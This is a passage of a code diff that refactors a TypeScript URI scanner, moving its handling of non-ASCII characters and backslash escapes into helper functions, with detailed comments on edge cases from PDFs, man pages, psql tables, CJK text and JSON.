-            nonAscii = true;
-            i = next;
-            continue;
-          }
-        }
-      }
-      // a home directory's "~" as a PDF's text has it: pdftotext writes the typewriter
-      // font's tilde as U+223C TILDE OPERATOR (a Word document's as U+02DC SMALL TILDE) —
-      // "http://www.cs.example.edu/∼user/" in a paper's references is "…/~user/" (the
-      // bibliographies hunt). Right after a "/" of the path and before a letter or digit
-      if ((utf8.cp === 0x223c || utf8.cp === 0x2dc) && i > c1 && buf[i - 1] === 0x2f) {
-        const next = i + utf8.len;
-        if (next >= n && !final) return MORE;
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-        }
-        if (auth < 0 && next < n && CLASS[buf[next]!]! & C_ALNUM) {
-          drop(i, next, 0x7e);
-          i = next;
-          continue;
-        }
-      }
-      // typesetting's invisible break opportunities inside a path, which an e-book's text
-      // keeps (pandoc's and calibre's text of an EPUB, LibreOffice's of a document): a zero
-      // width space after a "/" ("…/\u200Bcollections/\u200Bmanuscripts/…") and a soft
-      // hyphen between two letters ("…/col\u00ADlec\u00ADtions/") — no part of the URI,
-      // dropped, when more of the path follows: after the zero width space a segment of
-      // ASCII URI characters to the next "/", "?", "#" or the run's end (Thai and Japanese put
-      // one between words: "…/docs/\u200BPDF版をご覧"), not the next URI's scheme or a "www."
-      // name (invisibleBreakAt). Not in a fuzzy link's probe (linkify-it's match ends there)
-      if ((utf8.cp === 0x200b || utf8.cp === 0xad) && hasAuthority && i > c1 && !ctx.probe) {
-        const next = i + utf8.len;
-        if (next >= n && !final) return MORE;
-        const x = next < n ? buf[next]! : 0x20;
-        const p = buf[i - 1]!;
-        const letters =
-          (p | 0x20) >= 0x61 && (p | 0x20) <= 0x7a && (x | 0x20) >= 0x61 && (x | 0x20) <= 0x7a;
-        if (utf8.cp === 0x200b ? p === 0x2f && CLASS[x]! & C_ALNUM : letters) {
-          if (auth >= 0) {
-            auth = authorityEnd(buf, auth, i);
-            if (auth < i) auth = -1;
-          }
-          const seg = auth < 0 && utf8.cp === 0x200b ? invisibleBreakAt(buf, next, n, final) : 1;
-          if (seg === MORE_INPUT) return MORE;
-          if (auth < 0 && seg === 1) {
-            drop(i, next, NO_CHAR);
-            nonAscii = true;
-            i = next;
-            continue;
-          }
-        }
-      }
-      // a man page formatted for a UTF-8 terminal hyphenates a long word — a URI too — with
-      // U+2010 HYPHEN (groff's \(hy, groff_char(7)) at the line's end; a soft hyphen (U+00AD)
-      // shows where a word was broken too. Typesetting, not the URI's: it goes on at the next
-      // line (the rules of a "-" at a break, 2396bis App. E), without it — "https://www.kernel
-      // .org/doc/html/lat‐" LF "       est/filesystems/dax.html"
-      if ((utf8.cp === 0x2010 || utf8.cp === 0xad) && i > c1) {
-        let at = i + utf8.len;
-        if (at >= n && !final) return MORE;
-        // (colours turned off before the line break take no room: groff's SGR output,
-        // "…/man‐" ESC "[0m" LF "       " ESC "[1mual/")
-        if (at < n && buf[at] === 0x1b) {
-          const e = csiRunEnd(buf, at, n);
-          if (e === MORE_BYTES) {
-            if (!final) return MORE;
-          } else at = e;
-          if (at >= n && !final) return MORE;
-        }
-        if (
-          at < n &&
-          (buf[at] === 0x0a || buf[at] === 0x0d) &&
-          i < breaksBefore &&
-          i >= ctx.breakFrom
-        ) {
-          const h = hyphenBreak(buf, s, at, n, final);
-          if (h === MORE_INPUT) return MORE;
-          if (h > 0) {
-            drop(i, h, HYPHENATION);
-            i = h;
-            continue;
-          }
-        }
-        if (utf8.cp === 0x2010) break;
-      }
-      // "↵" (U+21B5) before a line's end or a table's border is psql's mark of a line break
-      // inside a cell (its unicode linestyle's nl_right, PostgreSQL src/fe_utils/print.c), not
-      // the URI's: "url │ https://a.example/x↵" LF "    │ next line"
-      if (utf8.cp === 0x21b5 && i > c1) {
-        const next = i + utf8.len;
-        if (next + 3 > n && !final) return MORE;
-        const x = next < n ? buf[next]! : 0x0a;
-        if (x === 0x0a || x === 0x0d || borderAt(buf, next, n) === 3) break;
-      }
-      if (privateUse(utf8.cp)) {
-        // RFC 3987 §2.2: iprivate only in the query (not past a "#")
-        part = uriPartAfter(buf, partScan, i, part);
-        partScan = i;
-        if (part !== IN_QUERY) break;
-      }
-      if (!iriCodePoint(utf8.cp)) {
-        // an ideographic full stop between two labels of a host is its dot (RFC 3490 §3.1:
-        // U+3002, U+FF0E, U+FF61 "MUST be recognized as dots"; RFC 3987 §3.1 maps an IRI's
-        // host through ToASCII): "http://日本。jp/", "http://www。google。com" — when ASCII
-        // labels follow it to the host's end (labelsToHostEnd). Otherwise it is the
-        // sentence's full stop, as Chinese and Japanese text writes it before a number or a
-        // word ("详见http://example.com。2024年起", "http://localhost。1. next")
-        const d = utf8.cp;
-        // general punctuation inside a Markdown link's destination is the URI's, as a dash is
-        // above (CommonMark §6.3: the destination runs to its ")"; RFC 3987 ucschar):
-        // "[text](http://www.google.com/search?q=…)" (lowdown's link-unicode.md) — past the
-        // host, before more of the destination or its ")"; not a space, a bidi control, nor
-        // a typographic apostrophe (below)
-        if (
-          d >= 0x2016 &&
-          d <= 0x205e &&
-          d !== 0x2019 &&
-          !(d >= 0x2028 && d <= 0x202f) &&
-          i > c1 &&
-          destination !== 0
-        ) {
-          const next = i + utf8.len;
-          if (next >= n && !final) return MORE;
-          if (auth >= 0) {
-            auth = authorityEnd(buf, auth, i);
-            if (auth < i) auth = -1;
-          }
-          const x = next < n ? buf[next]! : 0x20;
-          if (auth < 0 && ((CLASS[x]! & C_PLAIN && x !== 0x2c) || x === 0x29)) {
-            if (destination === UNKNOWN) destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
-            if (destination === 1) {
-              nonAscii = true;
-              i = next;
-              continue;
-            }
-          }
-        }
-        if (d === 0x2019 && mailto) {
-          mailState = mailtoStateAfter(buf, mailScan, i, mailState);
-          mailScan = i;
-          if (mailState === 1) break; // "mailto:kim@example.com’s"
-        }
-        if (d === 0x2019 && CLASS[buf[i - 1]!]! & C_ALPHA && !openedBySingleQuote(buf, s, ctx.lo)) {
-          // a typographic apostrophe inside a word of the path ("…/eric-schmidt’s-talk/",
-          // Android's PatternsTest) is the path's, as "'" is ("…/wiki/McDonald's"): U+2019 is
-          // an IRI character (RFC 3987 ucschar). Not in the host ("http://example.com’s
-          // page": the sentence's), nor at a word's end (a closing quote), nor before a letter
-          // of another script than Latin (Korean glues particles after a closing ’:
-          // "‘https://github.com/foo/bar’에서"), nor when a ‘ opened the URI
-          const next = i + utf8.len;
-          if (next >= stop) {
-            if (!final && stop === n) return MORE;
-            break;
-          }
-          if (buf[next]! >= 0x80) {
-            // a letter of another script after it: "…/l’été"
-            if (decodeCharAt(buf, next, n, final) < 0) return MORE;
-            if (!latinLetter(utf8.cp)) break;
-          } else if (!(CLASS[buf[next]!]! & C_ALPHA)) break;
-          // … but a possessive "’s" that ends the URI is the sentence's ("see
-          // https://x.example/d’s page"), as it is after a host
-          else if (buf[next] === 0x73) {
-            if (next + 1 >= n && !final) return MORE;
-            const x = next + 1 < n ? buf[next + 1]! : 0x20;
-            if (CLASS[x]! & (C_WS | C_TRAIL) || x === 0x29) break;
-          }
-          if (auth >= 0) {
-            auth = authorityEnd(buf, auth, i);
-            if (auth >= i) break;
-            auth = -1;
-          }
-          nonAscii = true;
-          i = next;
-          continue;
-        }
-        // a flag emoji's tags (🏴 U+E0067 U+E0062 …: no ucschar): the flag is glued text, base
-        // and all — "https://t.co/abc🏴…" is "https://t.co/abc"
-        if (d >= 0xe0020 && d <= 0xe007f && i - 4 > s && isBlackFlag(buf, i - 4)) {
-          i -= 4;
-          break;
-        }
-        // psql's unicode linestyle marks a value it wrapped with "…" before the border (or the
-        // line's end) and after the next line's (psql-linestyles.ts)
-        if (d === 0x2026 && i > c1 && i < breaksBefore && i >= ctx.breakFrom) {
-          const t = psqlUnicodeWrapAt(buf, cellPiece, i, n, final, limit);
-          if (t === MORE_INPUT) return MORE;
-          if (t > 0) {
-            drop(i, t, NO_CHAR);
-            i = t;
-            cellPiece = t;
-            continue;
-          }
-        }
-        // a table's box-drawing border right after the URI's piece: its cell may go on in the
-        // next row (table-cells.ts paddedCellWrapAt)
-        if (
-          (d === 0x2502 || d === 0x2503 || d === 0x2551) &&
-          i > c1 &&
-          i < breaksBefore &&
-          i >= ctx.breakFrom
-        ) {
-          const t = paddedCellWrapAt(buf, cellPiece, i, n, final, limit);
-          if (t === MORE_INPUT) return MORE;
-          if (t > 0) {
-            drop(i, t, NO_CHAR);
-            i = t;
-            cellPiece = t;
-            continue;
-          }
-        }
-        if (!(d === 0x3002 || d === 0xff0e || d === 0xff61) || auth < 0) break;
-        const next = i + utf8.len;
-        const r = labelsToHostEnd(buf, authStart, i, next, stop, final && stop === n);
-        if (r === MORE_INPUT) {
-          if (!final && stop === n) return MORE;
-          break;
-        }
-        if (r === 0) break;
-        auth = authorityEnd(buf, auth, i);
-        if (auth < i) {
-          auth = -1;
-          break;
-        }
-        nonAscii = true;
-        i = next;
-        continue;
-      }
-      // "いまなにしてるhttp://example.comいまなにしてる": CJK and Thai text has no spaces
-      // between words, so the URI ends where the script changes inside the host — a DNS
-      // label after a "." (or a port after ":") that began in ASCII does not go on in
-      // Han, kana, Hangul or Thai (no TLD mixes them; RFC 5892 / RFC 5893 label rules).
-      // Paths keep their IRI characters (RFC 3987: "http://ja.wikipedia.org/wiki/東京")
-      // Likewise a symbol, emoji or punctuation mark glued to an ASCII host ends it
-      // ("http://example.com™", "…com🎉", "…com،"): IDNA2008 allows only letters, marks and
-      // digits in a label (RFC 5892), so it is text glued to the URI, not a longer host.
-      // A label that starts with one ("http://✪df.ws/", "http://☺.damowmow.com/") is kept:
-      // such names exist, and peers' suites expect them whole
-      const cp = utf8.cp;
-      if (
-        auth >= 0 &&
-        CLASS[buf[i - 1]!]! & C_ALNUM &&
-        // (U+02BC, the modifier letter apostrophe, is the apostrophe of a Turkish suffix
-        // after a name in some translations, "https://example.orgʼda", as ’ is)
-        (!hostCodePoint(cp) || noSpaceScript(cp) || rtlLetter(cp) || cp === 0x02bc)
-      ) {
-        // is i still inside the authority? (scanned once, left to right: linear)
-        auth = authorityEnd(buf, auth, i);
-        if (auth < i) auth = -1;
-        else {
-          const r = gluedEndsHost(buf, i, i + utf8.len, n, cp, authStart);
-          if (r === MORE_INPUT) {
-            if (!final) return MORE;
-            break;
-          }
-          if (r === 1) break;
-        }
-      }
-      // a word of a script without spaces right before "scheme://" in a path: the URI ends
-      // after it, and the next one starts there ("http://t.co/abcde한국http://b.example/",
-      // twitter-text) — as a comma or a bracket before one (not in a query: a value may
-      // hold a URI); so does a middle dot, Korean's list separator
-      // ("https://example.kr/a·https://example.kr/b")
-      if ((noSpaceScript(cp) || cp === 0xb7) && hasAuthority) {
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-        }
-        if (auth < 0 && !inQuery) {
-          inQuery = hasQueryMark(buf, queryScan, i);
-          queryScan = i;
-        }
-        if (auth < 0 && !inQuery) {
-          const r = schemeSlashesAt(buf, i + utf8.len, n);
-          if (r === MORE_INPUT) {
-            if (!final) return MORE;
-          } else if (r === 1) {
-            nonAscii = true;
-            i += utf8.len;
-            break;
-          }
-        }
-      }
-      nonAscii = true;
-      i += utf8.len;
-      continue;
+    if (b >= 0x80) {
+      scan.i = i;
+      const r = nonAsciiStep(ctx, b);
+      i = scan.i;
+      if (r === NEXT) continue;
+      if (r === STOP) break;
+      return r;
     }
     // the end of a string literal and its line, and the next line opens another string: the
     // URI goes on in it (adjacent strings are one: C, Python, a PO file's msgstr;
@@ -1313,13 +710,14 @@ export function scanBare(
       b === 0x22 &&
       encodedClose < 0 &&
       (i > c1 ||
-        (i === c1 && (inString === UNKNOWN ? stringOpensLine(buf, rawStart) : inString === 1)))
+        (i === c1 &&
+          (scan.inString === UNKNOWN ? stringOpensLine(buf, rawStart) : scan.inString === 1)))
     ) {
       // (not past a template's placeholder, where the URI ends anyway: the next string's text
       // is read again from its own start — a PKGBUILD's `"…/src/$pkgname-$pkgver.tar.gz"` LF
       // `"$pkgname.service::https://…"` holds the next URI)
-      if (tmplScan >= 0) {
-        const ph = firstPlaceholder(buf, tmplScan, i, n, final, true, braces === 1);
+      if (scan.tmplScan >= 0) {
+        const ph = firstPlaceholder(buf, scan.tmplScan, i, n, final, true, scan.braces === 1);
         if (ph === MORE_INPUT) {
           if (!final) return MORE;
         } else if (ph >= 0) break;
@@ -1328,8 +726,9 @@ export function scanBare(
       if (r === MORE_INPUT) {
         if (!final) return MORE;
       } else if (r > 0) {
-        if (inString === UNKNOWN) inString = stringOpensLine(buf, rawStart) ? 1 : 0;
-        const next = inString === 1 ? itemOpensAt(buf, r, n, hasAuthority && i === authStart) : 1;
+        if (scan.inString === UNKNOWN) scan.inString = stringOpensLine(buf, rawStart) ? 1 : 0;
+        const next =
+          scan.inString === 1 ? itemOpensAt(buf, r, n, hasAuthority && i === authStart) : 1;
         if (next === MORE_INPUT) {
           if (!final) return MORE;
         } else if (next === 0) {
@@ -1345,17 +744,17 @@ export function scanBare(
     // double quote opened: that one closes it
     if (b === 0x22 && hasAuthority && !(rawStart - 1 >= ctx.lo && buf[rawStart - 1] === 0x22)) {
       // (a "?" or "#" before it: past the authority, which either ends)
-      if (!inQuery) {
-        inQuery = hasQueryMark(buf, queryScan, i);
-        queryScan = i;
+      if (!scan.inQuery) {
+        scan.inQuery = hasQueryMark(buf, scan.queryScan, i);
+        scan.queryScan = i;
       }
-      if (inQuery) {
+      if (scan.inQuery) {
         const r = quotedPairEnd(buf, i, stop);
         if (r === MORE_INPUT) {
           if (stop === n && !final) return MORE;
         } else if (r > 0) {
           i = r;
-          quotedEnd = r;
+          scan.quotedEnd = r;
           continue;
         }
       }
@@ -1369,325 +768,12 @@ export function scanBare(
     // JSON's `\/` ("https:\/\/example.com\/a" in a log). The escaped character is the
     // URI's; the backslash is not (troff's zero-width `\&`, `\%` and `\:` leave nothing)
     if (b === 0x5c) {
-      if (i + 1 >= n) {
-        if (!final) return MORE;
-        break;
-      }
-      const x = buf[i + 1]!;
-      // RFC 8792 line folding: "Location: https://example.com/restconf/data/\" + LF +
-      // "    example-jukebox:jukebox" (RFC 8040's examples) — backslashFold
-      if ((x === 0x0a || x === 0x0d) && colonEscaped) {
-        // a properties value goes on in the next line after its indentation
-        // (java.util.Properties#load: a line that ends in "\\" continues)
-        let f = i + 1;
-        if (buf[f] === 0x0d) f++;
-        if (f >= n) {
-          if (!final) return MORE;
-          break;
-        }
-        if (buf[f] !== 0x0a) break;
-        f++;
-        while (f < n && f - i < 256 && (buf[f] === 0x20 || buf[f] === 0x09)) f++;
-        if (f >= n && !final) return MORE;
-        if (f >= n || !(CLASS[buf[f]!]! & C_URI)) break;
-        drop(i, f, NO_CHAR);
-        i = f;
-        continue;
-      }
-      if (x === 0x0a || x === 0x0d) {
-        const f = backslashFold(buf, s, i, n, final);
-        if (f === MORE_INPUT) return MORE;
-        if (f < 0) break;
-        drop(i, f, NO_CHAR);
-        i = f;
-        continue;
-      }
-      // a colour written as text in a quoted log string ("\\u001b[1m", "\\033[0m"): as the
-      // raw sequence below
-      const t = csiEnd(buf, i, n);
-      if (t === MORE_BYTES) {
-        if (!final) return MORE;
-      } else if (t > 0) {
-        drop(i, t, NO_CHAR);
-        i = t;
-        continue;
-      }
-      // Pygments' escapes in a LaTeX document's code, "\\PYZhy{}" (nbconvert's) or
-      // "\\PYGZhy{}" (Sphinx's), are their characters: `s3://my\\PYZhy{}bucket/…`
-      if (x === 0x50) {
-        const t = pygmentsEscapeEnd(buf, i, n, final);
-        if (t === MORE_INPUT) return MORE;
-        if (t > 0) {
-          drop(i, t, escaped.cp);
-          i = t;
-          continue;
-        }
-      }
-      // LaTeX's "\\textasciitilde" (pandoc's, Sphinx's and docutils' LaTeX writers) is the
-      // URI's "~" past its host: "http://www.x.edu/\\textasciitilde{}ab123/" (the markup hunt)
-      if (x === 0x74) {
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-        }
-        if (auth < 0) {
-          const t = latexTildeEnd(buf, i, n, final);
-          if (t === MORE_INPUT) return MORE;
-          if (t > 0) {
-            drop(i, t, 0x7e);
-            i = t;
-            continue;
-          }
-        }
-      }
-      // a regular expression's escaped "." in a host, written in a JSON string: "\\\\." is
-      // "\\.", which matches the "." (a JSON Schema's `"pattern": "^https://developer\\\\.mozilla\\\\.org/docs/"`);
-      // read as the raw "\\." is (the escaped character is the URI's), not as the host's end
-      if (x === 0x5c && auth >= 0 && i > authStart && CLASS[buf[i - 1]!]! & C_ALNUM) {
-        if (i + 3 >= n) {
-          if (!final) return MORE;
-        } else if (buf[i + 2] === 0x2e && CLASS[buf[i + 3]!]! & C_ALNUM) {
-          drop(i, i + 2, NO_CHAR);
-          i += 2;
-          continue;
-        }
-      }
-      // a string's escaped backslash before a Markdown escape of "_", "~" or "*": pandoc's CSL
-      // YAML keeps Markdown in its double-quoted strings, `url: "https://x.example/cs\\_/pdf"`
-      // (the bibliographies hunt), and so does Reddit's API in a comment's JSON body,
-      // `"body": "see https://e.org/a\\_b"` (the chat hunt) — the character is the URI's
-      if (
-        x === 0x5c &&
-        i + 2 < n &&
-        (buf[i + 2] === 0x5f || buf[i + 2] === 0x7e || buf[i + 2] === 0x2a)
-      ) {
-        drop(i, i + 2, NO_CHAR);
-        i += 2;
-        continue;
-      }
-      // JSON inside JSON — Docker's json-file log of an app that logs JSON, Docker schema1's
-      // v1Compatibility — escapes the escape's own backslash: "\\\\u0026" is the inner
-      // string's "\\u0026", read so where the URI stands inside an escaped string
-      // (`\\"url\\":\\"http://h/items?id=5\\\\u0026x=y\\"`, `\\"Env\\":[\\"URL=https://…`);
-      // and so is JSON text that a format doubling backslashes wrote, wherever four hex digits
-      // follow (PostgreSQL's COPY and pg_dump, `mysqldump --tab`, `mariadb -B`, jq's @tsv,
-      // PHP's var_export: `{"url":"https://x.example/?a=1\\\\u0026b=2"}` — session 40, the
-      // dumps hunt): a "\\" before "u" and a code unit is no URI's
-      let esc = i;
-      if (x === 0x5c && i + 2 < n && buf[i + 2] === 0x75) {
-        if (i + 7 > n && !final) return MORE;
-        if ((i + 7 <= n && hex4(buf, i + 3) >= 0) || insideEscapedString(buf, rawStart, ctx.lo))
-          esc = i + 1;
-      } else if (x === 0x5c && i + 2 >= n && !final) return MORE;
-      // (Python's and YAML's eight-digit "\\U0001F600")
-      let long = -1;
-      if (x === 0x55) {
-        long = longUnicodeEscape(buf, i, n, final);
-        if (long === MORE_INPUT) return MORE;
-      }
-      if (x === 0x75 || x === 0x78 || esc > i || long > 0) {
-        // a JSON (or JavaScript, Java, Python) "\\uXXXX" escape inside the URI: Go's
-        // encoding/json writes "&" as "\\u0026" ("https://x.example/?a=1\\u0026b=2"), Python's
-        // json.dumps non-ASCII as "\\u00fc" (an IRI, RFC 3987); or a "\\xHH" escape of a
-        // JavaScript, Python or C string ("…/wiki/M\\xfcnchen", "caf\\xc3\\xa9"). The
-        // character it stands for is the URI's when it is a URI character or an IRI code
-        // point; any other ends it
-        const r =
-          long > 0
-            ? long
-            : esc > i || x === 0x75
-              ? unicodeEscape(buf, esc, n, esc > i)
-              : hexEscape(buf, i, n, final);
-        if (r === MORE_INPUT) {
-          if (!final) return MORE;
-          break;
-        }
-        if (r < 0) break;
-        const cp = escaped.cp;
-        if (cp < 0x80) {
-          // characters whose raw form the scan weighs (quotes, brackets, commas, emphasis
-          // marks) end the URI when escaped; "%" only begins an escape before two hex digits
-          // (an apostrophe, "\\u0027", closes no string that a '"' opened: PHP's
-          // JSON_HEX_APOS, `{"guid":"https://x.example/o\\u0027reilly"}`)
-          if (
-            !(CLASS[cp]! & C_URI) ||
-            (ESCAPE_ENDS[cp] === 1 &&
-              !(cp === 0x2f && uSlashes) &&
-              !(cp === 0x27 && rawStart > ctx.lo && buf[rawStart - 1] === 0x22))
-          ) {
-            break;
-          }
-          if (cp === 0x25) {
-            if (r + 2 > n && !final) return MORE;
-            if (!(isHexByte(buf[r]) && isHexByte(buf[r + 1]))) break;
-          }
-        } else {
-          if (asciiOnly || !iriCodePoint(cp)) break;
-          nonAscii = true;
-        }
-        if (auth >= 0 && i >= authStart) {
-          // in the host: the rules for the raw character (above), glued to an ASCII letter
-          // or digit written as such (not to the hex digits of an escape before it)
-          auth = authorityEnd(buf, auth, i);
-          // (an escaped "/" ends the authority)
-          if (auth < i || cp === 0x2f) auth = -1;
-          else {
-            if (
-              cp >= 0x80 &&
-              CLASS[buf[i - 1]!]! & C_ALNUM &&
-              !(drops.length > 0 && drops[drops.length - 1] === i) &&
-              (!hostCodePoint(cp) || noSpaceScript(cp))
-            ) {
-              const g = gluedEndsHost(buf, i, r, n, cp, authStart);
-              if (g === MORE_INPUT) {
-                if (!final) return MORE;
-                break;
-              }
-              if (g === 1) break;
-            }
-            auth = r;
-          }
-        }
-        drop(i, r, cp);
-        i = r;
-        continue;
-      }
-      // an escaped bracket in a query is its bracket (read percent-encoded, raw-characters.ts):
-      // python3-html2text escapes them in a Markdown destination,
-      // "[open](https://api.example.com/v2/issues?filter\\[status\\]=open)", and a shell
-      // command line so keeps curl from globbing them (session 40, the converters hunt). Not
-      // before the query: "<https://example.com/\\[\\>" ends at its backslash (CommonMark)
-      // (a groff named character, "\\[ti]", is troff's below)
-      if ((x === 0x5b || x === 0x5d) && (hasAuthority || mailto)) {
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-        }
-        if (!inQuery && auth < 0) {
-          inQuery = hasQueryMark(buf, queryScan, i);
-          queryScan = i;
-        }
-        const g = inQuery && x === 0x5b ? groffNamed(buf, i, n, final) : 0;
-        if (g === MORE_INPUT) return MORE;
-        if (inQuery && g === 0) {
-          drop(i, i + 1, NO_CHAR);
-          i++;
-          continue;
-        }
-      }
-      if (x === 0x28 || x === 0x5b || x === 0x2a) {
-        // groff's named characters and strings in a raw man page (troffEscape, groff(7),
-        // groff_char(7)): "…/\\[ti]mgk25" is "…/~mgk25"; a quote ("\\(dq", pod2man's
-        // "\\*(Aq" and "\\*(C'") ends the URI as the quote itself would
-        let t = troffEscape(buf, i, n, final);
-        if (t === MORE_INPUT) return MORE;
-        if (x === 0x28 && t !== -1) {
-          // … unless Markdown's "\\)" follows in the word (escapedCloseAhead; looked for
-          // once past the last one found, and within MD_CLOSE_REACH bytes: a word of many
-          // URIs and named characters is not read to maxLength for each)
-          if (mdClose < i + 4 && !(mdClose < 0 && mdScanned >= i + 4)) {
-            const reach = Math.min(limit, i + 4 + MD_CLOSE_REACH);
-            const r = escapedCloseAhead(buf, i + 4, n, reach, final);
-            if (r === MORE_INPUT) return MORE;
-            mdClose = r;
-            mdScanned = r >= 0 ? r : closeScan.end;
-          }
-          if (mdClose >= 0) t = -1;
-          else if (t > 0 && !openParenBefore(buf, rawStart, ctx.lo)) {
-            // (… or a plain ")" closes it, for a name that stands for a character — not when
-            // the URI stands in a parenthesis the text opened: "(see http://x/\\(tiuser/)")
-            const reach = Math.min(limit, i + 4 + MD_CLOSE_REACH);
-            const p = plainCloseAhead(buf, i + 4, n, reach, final);
-            if (p === MORE_INPUT) return MORE;
-            if (p === 1) t = -1;
-          }
-        }
-        if (t === TROFF_ENDS) break;
-        if (t > 0) {
-          // (a non-ASCII character, "\\[u041C]", is an IRI's: RFC 3987 §2.2)
-          if (escaped.cp >= 0x80) {
-            if (asciiOnly || !iriCodePoint(escaped.cp)) break;
-            nonAscii = true;
-          }
-          // in the host a named character ends the URI (the host's rules read raw bytes;
-          // troff writes a host's "-" and "." as "\\-" "\\.") — but "\\[at]" is the
-          // userinfo's "@", as pandoc's man writer escapes every "@" (groff_char(7)):
-          // "git+ssh://git\\[at]git.sr.ht/~p/w.git"
-          if (auth >= 0) {
-            auth = authorityEnd(buf, auth, i);
-            if (auth < i) auth = -1;
-            else if (escaped.cp !== 0x40) break;
-          }
-          drop(i, t, escaped.cp);
-          i = t;
-          continue;
-        }
-      }
-      // a GFM table cell's "\|" in a link's destination is its "|" (GFM §4.10: the cell is
-      // unescaped before its inlines are read): "| [t](https://example.com/a\|b) |" — taken
-      // as a raw "|" is (below)
-      if (x === 0x7c && i > c1) {
-        if (destination === UNKNOWN) destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
-        if (destination === 1) {
-          if (firstPipe < 0) firstPipe = i;
-          drop(i, i + 1, NO_CHAR);
-          i += 2;
-          continue;
-        }
-      }
-      if (x < 0x80 && ESCAPABLE[x] === 1) {
-        // in the host only troff's and JSON's escapes are read (`\-` `\.` `\&` `\%` `\:`,
-        // "\/"): "https://example.com\_Resources\…" is a Windows path glued to the host, and
-        // "_" no DNS name's (reading it would give another host)
-        if (auth >= 0 && HOST_ESCAPABLE[x] !== 1) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-          else {
-            // … but a Markdown escape in a name that goes on ("my\_bucket.s3.example.com")
-            // or in a userinfo ("ftp://user\@host/") is read
-            const g = escapeEndsHost(buf, authStart, i, stop);
-            if (g === MORE_INPUT) {
-              if (!final && stop === n) return MORE;
-              break;
-            }
-            if (g === 1) break;
-          }
-        }
-        // troff's zero-width `\&` stands before a dot ("www\&.valgrind\&.org"); elsewhere
-        // it is LaTeX's or Markdown's "&" ("\href{…?a=1\&b=2}"). `\%` before two hex
-        // digits is LaTeX's "%" ("a\%20b"), else troff's hyphenation mark
-        if ((x === 0x26 || x === 0x25) && i + 3 >= n && !final) return MORE;
-        if ((x === 0x28 || x === 0x29) && destination === UNKNOWN) {
-          destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
-        }
-        if (
-          (x === 0x26 && i + 2 < n && buf[i + 2] === 0x2e) ||
-          (x === 0x25 && !(i + 3 < n && isHexByte(buf[i + 2]) && isHexByte(buf[i + 3]))) ||
-          (x === 0x3a && !colonEscaped)
-        ) {
-          drop(i, i + 2, NO_CHAR); // both bytes dropped
-          i += 2;
-        } else if ((x === 0x28 || x === 0x29) && destination === 1) {
-          // an escaped parenthesis in a Markdown link's destination is the URI's and pairs
-          // with nothing (CommonMark §6.3): "[t](https://example.com/x\\()" is ".../x(", the
-          // link's ")" no partner of it. (In prose "(see https://x.example/a\\)" it closes
-          // the text's parenthesis, as a raw one would)
-          drop(i, i + 1, NO_CHAR);
-          i += 2;
-        } else if (x === 0x7e && i + 3 >= n && !final) {
-          return MORE;
-        } else if (x === 0x7e && i + 3 < n && buf[i + 2] === 0x7b && buf[i + 3] === 0x7d) {
-          // LaTeX's "\~{}", a tilde in text mode (an accent on an empty group): the "~" is
-          // the URI's, the group none of it — "http://www.x.edu/\~{}ab123/" (pandoc's LaTeX)
-          drop(i, i + 1, NO_CHAR);
-          drop(i + 2, i + 4, NO_CHAR);
-          i += 4;
-        } else {
-          drop(i, i + 1, NO_CHAR);
-          i++; // the escaped character is read as any other
-        }
-        continue;
-      }
+      scan.i = i;
+      const r = backslashStep(ctx);
+      i = scan.i;
+      if (r === NEXT) continue;
+      if (r === STOP) break;
+      return r;
     }
     // HTML's <wbr> (a line break opportunity, HTML §4.5.29) inside a URI in markup read as
     // text: "http://example.com/very<wbr>/long/path" shows as one URL (a browser breaks a long
@@ -1709,8 +795,8 @@ export function scanBare(
     // perlpod "L<text|url>", "E<escape>"; pod-escapes.ts): the character it names is the
     // URI's, as in "L<url>" (angle.ts)
     if (b === 0x3c && i - 1 > c1 && buf[i - 1] === 0x45) {
-      if (podTarget === 0) podTarget = podLinkBefore(buf, rawStart, ctx.lo) ? 1 : -1;
-      if (podTarget === 1) {
+      if (scan.podTarget === 0) scan.podTarget = podLinkBefore(buf, rawStart, ctx.lo) ? 1 : -1;
+      if (scan.podTarget === 1) {
         const e = podEscapeEnd(buf, i, n, final);
         if (e === MORE_INPUT) {
           if (!final) return MORE;
@@ -1787,29 +873,29 @@ export function scanBare(
       const t = texGroupEnd(buf, i, n, final);
       if (t === MORE_INPUT) return MORE;
       if (t > 0) {
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
+        if (scan.auth >= 0) {
+          scan.auth = authorityEnd(buf, scan.auth, i);
+          if (scan.auth < i) scan.auth = -1;
         }
-        if (auth < 0) {
+        if (scan.auth < 0) {
           drop(i, t, escaped.cp);
           i = t;
           continue;
         }
       }
     }
-    if (b === 0x7b && tmplScan < 0) {
-      if (mayStartPlaceholder(buf, i, n)) tmplScan = i;
+    if (b === 0x7b && scan.tmplScan < 0) {
+      if (mayStartPlaceholder(buf, i, n)) scan.tmplScan = i;
       else if (i + 1 < n && buf[i + 1] !== 0x7b) {
         // (an interpolated string's "{name}": f"https://example.org/a/{suffix}")
-        if (braces === UNKNOWN) braces = interpolatingQuoteBefore(buf, s, ctx.lo) ? 1 : 0;
-        if (braces === 1) tmplScan = i;
+        if (scan.braces === UNKNOWN) scan.braces = interpolatingQuoteBefore(buf, s, ctx.lo) ? 1 : 0;
+        if (scan.braces === 1) scan.tmplScan = i;
       }
     }
     if (b === 0x7b && hasAuthority && buf[i - 1] !== 0x24) {
-      if (auth >= 0) {
-        auth = authorityEnd(buf, auth, i);
-        if (auth < i) auth = -1;
+      if (scan.auth >= 0) {
+        scan.auth = authorityEnd(buf, scan.auth, i);
+        if (scan.auth < i) scan.auth = -1;
         else if (i > authStart && CLASS[buf[i - 1]!]! & C_ALNUM) {
           // "http://example{.}com": defanged as "[.]" is (defangedAuthorityEnd)
           const d = defangedAuthorityEnd(buf, i, n, limit, final);
@@ -1821,7 +907,7 @@ export function scanBare(
           }
         }
       }
-      if (auth < 0) {
+      if (scan.auth < 0) {
         // (after a query's "=", a JSON object with its quotes: the value's)
